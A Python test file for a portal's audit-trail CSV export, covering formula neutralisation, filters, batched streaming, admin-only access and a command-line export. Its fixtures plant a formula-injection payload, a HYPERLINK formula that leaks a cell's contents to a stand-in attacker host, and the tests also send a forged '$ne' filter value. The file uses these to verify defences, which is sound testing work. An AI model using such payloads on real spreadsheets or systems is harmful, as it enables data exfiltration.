"""The audit trail's CSV export (portal.accounts.audit_export): its content, formula cells neutralised,
the filters, batches streamed, and the three ways to it: the Admin page's filters and its Download CSV
(admins only, audited), and `python -m portal audit export`. The entries are made-up test events."""
from __future__ import annotations

import csv
import io
import json
import os
import stat
from datetime import datetime, timezone

import pytest
from sqlalchemy import select

from portal import request_ids
from portal.accounts import audit, audit_chain, audit_export
from portal.cli import main
from portal.core.models import AuditEvent
from tests.helpers import user_of

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


def _add(db, when: datetime, action: str, target: str | None, outcome: str = "ok", actor: str = "made-up@example.org",
         user_id: int | None = None, request_id: str | None = None, details: dict | None = None) -> None:
    audit_chain.append(db.engine, dict(at=when, action=action, outcome=outcome, target=target, details=details or {},
                                       user_id=user_id, actor=actor, ip="192.0.2.9", request_id=request_id))


def _day(day: int, hour: int = 12) -> datetime:
    return datetime(2026, 3, day, hour, tzinfo=timezone.utc)


@pytest.fixture
def trail(migrated_db):
    """Six made-up entries over three days, one of them a formula planted in a target and an actor."""
    db = migrated_db
    _add(db, _day(1), "sign-in", "someone@example.org", outcome="failed", actor="someone@example.org",
         details={"reason": "wrong-password"})
    _add(db, _day(1, 18), "upload", "upload-abc", request_id="req-1", details={"samples": 3})
    _add(db, _day(2), "download", HYPERLINK, actor="+SUM(1,2)@example.org")
    _add(db, _day(2, 13), "download", "Run_100%_done", outcome="denied")
    _add(db, _day(3), "sign-in", None, actor="admin@example.org", user_id=None)
    _add(db, _day(3, 23), "upload", "-2+3", details={"note": "@starts with at"})
    return db


def _exported(db, chosen=audit.Filters()) -> list[dict]:
    text = "".join(audit_export.csv_chunks(db.engine, chosen, audit_export.newest_id(db.engine)))
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_holds_every_field_and_neutralises_formulas(trail):
    rows = _exported(trail)
    assert len(rows) == 6 and list(rows[0]) == list(audit_export.COLUMNS)
    upload = rows[1]
    assert (upload["action"], upload["target"], upload["request_id"], upload["ip"]) == ("upload", "upload-abc",
                                                                                          "req-1", "192.0.2.9")
    assert json.loads(upload["details"]) == {"samples": 3} and upload["at"] == "2026-03-01T18:00:00.000000+00:00"
    with trail.engine.connect() as connection:
        assert upload["hash"] == connection.execute(select(AuditEvent.hash).where(AuditEvent.id == int(upload["id"]))
                                                    ).scalar()
    planted = rows[2]
    assert planted["target"] == "'" + HYPERLINK and planted["actor"] == "'+SUM(1,2)@example.org"
    assert rows[5]["target"] == "'-2+3" and rows[4]["target"] == ""
    assert rows[3]["target"] == "Run_100%_done"  # nothing to neutralise


@pytest.mark.parametrize("cell, shown", [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
                                         ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""),
                                         (" =x", " =x")])
def test_neutralise(cell, shown):
    assert audit_export.neutralise(cell) == shown


def test_the_filters(trail):
    def targets(**given):
        return [row["target"] for row in _exported(trail, audit_export.filters(**given))]

    assert targets(action="download") == ["'" + HYPERLINK, "Run_100%_done"]
    assert targets(outcome="denied") == ["Run_100%_done"]
    assert targets(actor="someone@example.org") == ["someone@example.org"]
    assert targets(since="2026-03-02") == ["'" + HYPERLINK, "Run_100%_done", "", "'-2+3"]
    assert targets(until="2026-03-01") == ["someone@example.org", "upload-abc"]  # through the whole day
    assert targets(since="2026-03-02T12:30:00", until="2026-03-03T12:00:00") == ["Run_100%_done"]
    assert targets(since="2026-03-02", until="2026-03-02", action="download", outcome="ok") == ["'" + HYPERLINK]
    assert targets(target="UPLOAD-") == ["upload-abc"]  # any case
    assert targets(target="100%") == ["Run_100%_done"] and targets(target="n_1") == ["Run_100%_done"]
    assert targets(target="0%_d") == ["Run_100%_done"] and targets(target="%") == ["Run_100%_done"]
    assert targets(target="_") == ["Run_100%_done"]  # % and _ are the characters themselves, not wildcards
    for wrong, field in ((dict(since="yesterday"), "since"), (dict(outcome="maybe"), "outcome"),
                         (dict(user_id="x1"), "user"), (dict(target="t" * 256), "target"),
                         (dict(since="2026-03-03", until="2026-03-01"), "since")):
        with pytest.raises(audit_export.FilterError, match=f"^{field}: "):
            audit_export.filters(**wrong)


def test_the_export_is_read_and_written_a_batch_at_a_time(trail, monkeypatch):
    monkeypatch.setattr(audit_export, "BATCH", 2)
    up_to = audit_export.newest_id(trail.engine)
    chunks = list(audit_export.csv_chunks(trail.engine, audit.Filters(), up_to))
    assert len(chunks) == 1 + 3  # the header, then three batches of two entries
    assert all(chunk.count("\r\n") == 2 for chunk in chunks[1:])
    _add(trail, _day(4), "later", "written during the export")  # after the export began: not in it
    assert "".join(audit_export.csv_chunks(trail.engine, audit.Filters(), up_to)) == "".join(chunks)


def _callback(client, values: dict):
    inputs = [{"id": i, "property": p, "value": values.get(f"{i}.{p}")} for i, p in (
        ("admin-audit-user", "value"), ("admin-audit-action", "value"), ("admin-audit-outcome", "value"),
        ("admin-audit-dates", "start_date"), ("admin-audit-dates", "end_date"), ("admin-audit-target", "value"),
        ("admin-users-grid", "rowData"))]
    return client.post("/_dash-update-component", json={
        "output": "..admin-audit-grid.rowData...admin-audit-download.href..",
        "outputs": [{"id": "admin-audit-grid", "property": "rowData"},
                    {"id": "admin-audit-download", "property": "href"}],
        "inputs": inputs, "state": [], "changedPropIds": ["admin-audit-action.value"]})


def _new_entries(db, after: int) -> list:
    with db.engine.connect() as connection:
        return connection.execute(select(AuditEvent).where(AuditEvent.id > after).order_by(AuditEvent.id)).all()


def test_the_admin_page_filters_and_links_the_same_csv(app, db, client_for):
    portal = app.server.extensions["cancer_alpha"]
    researcher = user_of(portal, "researcher")
    with request_ids.started_by("req-made-up", None):
        audit.record("test.event", target=HYPERLINK, user_id=researcher.id, actor=researcher.email, db=db)
        audit.record("test.event", target="another", outcome="failed", db=db)
    admin = client_for("admin")
    answer = _callback(admin, {"admin-audit-action.value": "test.event", "admin-audit-outcome.value": "ok",
                               "admin-audit-target.value": "hyperlink", "admin-audit-user.value": researcher.id,
                               "admin-audit-dates.start_date": "2020-01-01",
                               "admin-audit-dates.end_date": "2099-12-31"})
    assert answer.status_code == 200, answer.get_data(as_text=True)
    shown = answer.json["response"]
    (row,) = shown["admin-audit-grid"]["rowData"]
    assert row["target"] == HYPERLINK and row["request_id"] == "req-made-up"  # the grid shows text as it is
    href = shown["admin-audit-download"]["href"]
    assert href == (f"/admin/audit.csv?user={researcher.id}&action=test.event&outcome=ok&since=2020-01-01"
                    f"&until=2099-12-31&target=hyperlink")
    before = _new_entries(db, 0)[-1].id
    download = admin.get(href, headers={"X-Request-Id": "req-export-1"})
    assert download.status_code == 200 and download.mimetype == "text/csv"
    assert download.headers["Content-Disposition"].startswith('attachment; filename="audit-')
    (exported,) = csv.DictReader(io.StringIO(download.get_data(as_text=True)))
    assert exported["target"] == "'" + HYPERLINK and exported["actor"] == researcher.email
    (entry,) = _new_entries(db, before)
    assert (entry.action, entry.outcome, entry.actor, entry.request_id) == ("audit-export", "ok", "admin@example.org",
                                                                              "req-export-1")
    assert entry.details == {"entries": 1, "via": "admin page", "filters": {
        "user_id": researcher.id, "action": "test.event", "outcome": "ok", "target_text": "hyperlink",
        "since": "2020-01-01T00:00:00+00:00", "until": "2100-01-01T00:00:00+00:00"}}
    assert _callback(admin, {}).json["response"]["admin-audit-download"]["href"] == "/admin/audit.csv"
    forged = _callback(admin, {"admin-audit-target.value": {"$ne": 1}})
    assert forged.status_code == 400 and "a filter is text" in forged.json["error"]["message"]
    wrong = admin.get("/admin/audit.csv?since=last-week")
    assert wrong.status_code == 400 and "is not a date (YYYY-MM-DD)" in wrong.get_data(as_text=True)
    assert _new_entries(db, before)[-1].outcome == "failed"


@pytest.mark.parametrize("role", ["researcher", "clinician", "analyst"])
def test_only_admins_see_or_export_the_trail(app, db, client_for, role):
    client = client_for(role)
    before = _new_entries(db, 0)[-1].id
    assert _callback(client, {}).status_code == 403
    refused = client.get("/admin/audit.csv")
    assert refused.status_code == 403 and f"({role}) may not read the audit trail" in refused.get_data(as_text=True)
    assert [(e.action, e.target, e.outcome) for e in _new_entries(db, before)] == [
        ("permission.denied", "view_audit", "denied")] * 2
    assert app.server.test_client().get("/admin/audit.csv").status_code == 302  # signed out: to the sign-in page


def test_audit_export_on_the_command_line(trail, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("CANCER_ALPHA_DATABASE_URL", trail.url)
    monkeypatch.setenv("CANCER_ALPHA_VAR_DIR", str(tmp_path))
    out = tmp_path / "trail.csv"
    out.write_text("an older file, readable by anyone")
    os.chmod(out, 0o644)
    assert main(["audit", "export", "--action", "download", "--since", "2026-03-02", "-o", str(out)]) == 0
    assert "wrote 2 entries" in capsys.readouterr().err
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
    assert [row["target"] for row in rows] == ["'" + HYPERLINK, "Run_100%_done"]
    assert main(["audit", "export", "--user", "SOMEONE@example.org", "--outcome", "failed"]) == 0
    printed = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [row["actor"] for row in printed] == ["someone@example.org"]
    assert main(["audit", "export", "--until", "31/12/2026"]) == 2
    assert "error: until: '31/12/2026' is not a date" in capsys.readouterr().err
    assert main(["audit", "export", "-o", str(tmp_path / "no such folder" / "trail.csv")]) == 2
    assert "error: cannot write" in capsys.readouterr().err and not (tmp_path / "no such folder").exists()
    with trail.engine.connect() as connection:
        entries = connection.execute(select(AuditEvent).where(AuditEvent.action == "audit-export")
                                     .order_by(AuditEvent.id)).all()
    assert [(e.outcome, e.details.get("entries"), e.details["via"], e.request_id) for e in entries] == [
        ("ok", 2, "command line", None), ("ok", 1, "command line", None), ("failed", None, "command line", None)]
    assert audit_chain.verify(trail.engine).ok
